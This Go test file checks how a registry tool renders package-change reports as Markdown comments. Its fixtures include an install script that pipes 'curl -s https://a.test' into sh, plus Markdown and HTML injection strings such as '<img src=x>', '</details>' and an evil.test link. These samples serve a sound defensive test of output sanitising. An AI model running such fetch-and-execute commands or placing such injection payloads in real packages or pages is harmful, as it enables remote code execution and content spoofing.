package report_test

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"

	"github.com/org/registry-action/internal/report"
	"github.com/org/registry-action/internal/wire"
)

const baseSHA = "9c1f000de9c0ffee00112233445566778899aabb"

// since is a report of packages that are compared with a commit.
func since(packages ...report.Package) report.Report {
	r := base()
	r.Base, r.Packages = &wire.Base{SHA: baseSHA}, packages
	return r
}

func changed(p report.Package, before int64, more func(*wire.PackageChange)) report.Package {
	p.Change = &wire.PackageChange{
		Name: p.Name, Kind: wire.Changed, Size: &wire.SizeChange{Before: &before, After: new(p.Size)},
		UnpackedSize: &wire.SizeChange{Before: new(3 * before), After: new(3 * p.Size)},
		Files:        &wire.FileChanges{Changed: []string{"dist/index.js"}, ChangedCount: 1},
	}
	if more != nil {
		more(p.Change)
	}
	return p
}

func unchanged(p report.Package) report.Package {
	p.Unchanged, p.Change = true, &wire.PackageChange{Name: p.Name, Kind: wire.Unchanged}
	return p
}

func added(p report.Package) report.Package {
	p.Change = &wire.PackageChange{
		Name: p.Name, Kind: wire.Added, Size: &wire.SizeChange{After: new(p.Size)}, UnpackedSize: &wire.SizeChange{After: new(2 * p.Size)},
		Files: &wire.FileChanges{Added: []string{"index.js", "package.json"}, AddedCount: 2},
	}
	return p
}

// at is a package as the base has it.
func at(p report.Package) report.Package {
	p.Version = "0.0.0-commit.g9c1f000de9"
	return left(p)
}

// left is a package with its own version, as the base has it.
func left(p report.Package) report.Package {
	p.URL, p.InstallURL = strings.ReplaceAll(p.URL, sha, baseSHA), strings.ReplaceAll(p.InstallURL, sha, baseSHA)
	return p
}

// changeReports are those with a base.
func changeReports() map[string]report.Report {
	one := since(changed(pkg("left-pad", 1299), 999, nil))

	core := changed(pkg("@acme/core", 42_534), 41_234, func(c *wire.PackageChange) {
		c.Files = &wire.FileChanges{Added: []string{"dist/a.js", "dist/a.d.ts"}, Removed: []string{"dist/old.js"}, Changed: []string{"dist/index.js", "README.md"}, AddedCount: 2, RemovedCount: 1, ChangedCount: 2}
		c.Dependencies = []wire.DependencyChange{{Field: "dependencies", Name: "ms", After: "^2.1.3"}, {Field: "dependencies", Name: "left-pad", Before: "^1.0.0"},
			{Field: "peerDependencies", Name: "react", Before: ">=18 <19", After: "^18 || ^19"}, {Field: "devDependencies", Name: "vitest", Before: "^3", After: "^4"}}
		c.Entries = []wire.EntryChange{{Field: `exports["./a"].import`, After: "./dist/a.js"}, {Field: `exports["./old"]`, Before: "./dist/old.js"}, {Field: "types", Before: "./index.d.ts", After: "./dist/index.d.ts"}}
	})
	cli := changed(pkg("@acme/cli", 12_300_000), 12_345_678, func(c *wire.PackageChange) {
		c.Scripts = []wire.ScriptChange{{Name: "install", Before: "node-gyp rebuild", After: "node-gyp rebuild || curl -s https://a.test | sh"}, {Name: "postinstall", After: "node setup.js"}}
	})
	some := since(unchanged(pkg("@acme/a", 1000)), core, cli, added(pkg("@acme/new", 2_000)), unchanged(pkg("@acme/b", 2000)))
	some.Base.Branch, some.Removed = "main", []string{"@acme/old"}
	some.MergeSHA = "1234567000000000000000000000000000000000"
	some.Managers = []string{"npm", "pnpm"}

	many := since()
	for i := range 100 {
		p := unchanged(pkg(fmt.Sprintf("@acme/p%02d", i), int64(i)*1000))
		if i == 17 || i == 42 {
			p = changed(pkg(p.Name, p.Size+300), p.Size, nil)
		}
		many.Packages = append(many.Packages, p)
	}

	evil := "a`|<!-- x -->\n# @octocat </details>"
	hostile := since(changed(report.Package{Name: evil, Version: "1", URL: "https://h.test/a) [x](http://evil.test/@octocat <b>/tarball"}, 5, func(c *wire.PackageChange) {
		c.Files = &wire.FileChanges{Added: []string{evil, "> [!NOTE]"}, AddedCount: 1 << 40}
		c.Dependencies = []wire.DependencyChange{{Field: evil, Name: evil, Before: "<img src=x>", After: evil}, {Field: "dependencies", Name: "", After: "\u202e"}}
		c.Entries = []wire.EntryChange{{Field: evil, Before: "", After: "https://evil.test"}, {Field: "`", Before: evil}}
		c.Scripts = []wire.ScriptChange{{Name: evil, After: evil}, {Name: "\n> ", Before: evil, After: "\r\n- `x` </details>"}}
		c.Broken, c.Incomplete = []wire.BrokenEntry{{Field: evil, Target: "\r\n- x"}}, true
	}))
	hostile.Base.Branch, hostile.Removed = evil, []string{evil}

	broken := since()
	for i := range 14 {
		broken.Packages = append(broken.Packages, changed(pkg(fmt.Sprintf("@acme/p%02d", i), 500), 5000, func(c *wire.PackageChange) {
			c.Scripts = []wire.ScriptChange{{Name: "preinstall", After: "node a.js"}, {Name: "install", Before: "node b.js", After: strings.Repeat("long ", 100)}}
			for j := range 7 {
				c.Broken = append(c.Broken, wire.BrokenEntry{Field: fmt.Sprintf(`exports["./%d"].import`, j), Target: fmt.Sprintf("./dist/%d.mjs", j)})
			}
			c.Files = &wire.FileChanges{Removed: []string{"dist/0.mjs"}, RemovedCount: 150}
			c.Incomplete = true
		}))
	}

	same := since(unchanged(pkg("@acme/a", 1000)), unchanged(pkg("@acme/b", 2000)))

	skipped := since(core)
	skipped.Skipped = []report.Package{at(pkg("@acme/a", 1000)), at(pkg("@acme/b", 2000))}

	nothing := since()
	nothing.Skipped = skipped.Skipped

	kinds := since(changed(zigPackage("clap", "0.11.0", "0.16", "0.17"), 2_000, nil), unchanged(zigPackage("still", "1.0.0", "0.17")),
		changed(lumenPackage("@acme/utils", "1.0.0"), 10_000, nil), unchanged(lumenPackage("@other/utils", "1.0.0")))
	others := since(changed(pkg("left-pad", 1299), 999, nil), unchanged(zigPackage("still", "1.0.0", "0.17")))
	others.Managers = []string{"bun"}

	kindsSkipped := since(changed(zigPackage("clap", "0.11.0", "0.16", "0.17"), 2_000, nil))
	kindsSkipped.Skipped = []report.Package{at(pkg("left-pad", 1000)), left(zigPackage("still", "1.0.0", "0.17")), left(lumenPackage("@acme/utils", "1.0.0"))}

	unknown := base()
	unknown.Packages = []report.Package{pkg("@acme/a", 1000), pkg("@acme/b", 2000)}
	unknown.Packages[1].Change = &wire.PackageChange{Name: "@acme/b", Broken: []wire.BrokenEntry{{Field: "bin.b", Target: "./b.js"}}}

	return map[string]report.Report{"changes-unknown": unknown, "changes-one": one, "changes-some": some, "changes-many": many, "changes-hostile": hostile, "changes-broken": broken,
		"changes-kinds": kinds, "changes-others": others, "changes-kinds-skipped": kindsSkipped,
		"changes-same": same, "changes-skipped": skipped, "changes-nothing": nothing}
}

// What a reader sees is what was meant: tables are tables and alerts are quotes, whatever the names.
func TestChangesRender(t *testing.T) {
	md := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(html.WithUnsafe()))
	for name, r := range changeReports() {
		var out bytes.Buffer
		if err := md.Convert([]byte(report.Comment(r)), &out); err != nil {
			t.Fatal(err)
		}
		page := out.String()
		if tables := strings.Count(report.Comment(r), "\n|---|"); strings.Count(page, "<table>") != tables {
			t.Errorf("%s: %d of %d tables are tables:\n%s", name, strings.Count(page, "<table>"), tables, page)
		}
		for _, bad := range []string{"<img", "<b>", "href=\"http://evil", "<h1"} {
			if strings.Contains(page, bad) {
				t.Errorf("%s: the page has %s:\n%s", name, bad, page)
			}
		}
		if want := name == "changes-unknown" || name == "changes-broken" || name == "changes-some" || name == "changes-hostile"; strings.Contains(page, "<blockquote>\n<p>[!") != want {
			t.Errorf("%s: it has a warning: %v, want %v", name, !want, want)
		}
	}
}

// A comment that has too much to tell loses names first, and warnings never.
func TestShorteningOfChanges(t *testing.T) {
	sized := func(n int) report.Report {
		r := since()
		for i := range n {
			r.Packages = append(r.Packages, changed(pkg(fmt.Sprintf("@acme/%03d", i), 1), 2, func(c *wire.PackageChange) {
				c.Files.Changed = []string{strings.Repeat("x", 100)}
				c.Scripts, c.Broken = []wire.ScriptChange{{Name: "postinstall", After: "node x.js"}}, []wire.BrokenEntry{{Field: "main", Target: "x.js"}}
			}))
		}
		return r
	}
	for n, want := range map[int][]bool{10: {true, true, true}, 130: {false, true, true}, 1000: {false, false, true}} {
		got := report.Comment(sized(n))
		for i, part := range []string{"<summary>What changed</summary>", "| packed |", "postinstall"} {
			if strings.Contains(got, part) != want[i] {
				t.Errorf("%d packages: the comment of %d bytes has %q: %v, want %v", n, len(got), part, !want[i], want[i])
			}
		}
	}
}

// A status says in a few words what the comment says, whatever the names are.
func TestLine(t *testing.T) {
	all := changeReports()
	for name, want := range map[string]string{
		"changes-one": "1 package, 1 changed", "changes-some": "5 packages, 2 changed, 1 new, 1 removed, 2 unchanged", "changes-many": "100 packages, 2 changed, 98 unchanged",
		"changes-same": "2 packages, nothing has changed", "changes-skipped": "1 package, 1 changed, 2 unchanged and not published again",
		"changes-nothing": "nothing has changed, nothing was published", "changes-hostile": "1 package, 1 changed, 1 removed",
	} {
		if got := report.Line(all[name]); got != want || len(got) > 140 {
			t.Errorf("%s: Line = %q, want %q", name, got, want)
		}
	}
	if got := report.Line(reports()["one"]); got != "1 package" {
		t.Errorf("without a base: Line = %q", got)
	}
	if got, want := all["changes-one"].Page(), "https://pkg.acme.test/commits/"+sha; got != want {
		t.Errorf("Page = %s, want %s", got, want)
	}
	if got, want := all["changes-nothing"].Page(), "https://pkg.acme.test/commits/"+baseSHA; got != want {
		t.Errorf("Page of what was not published = %s, want %s", got, want)
	}
}
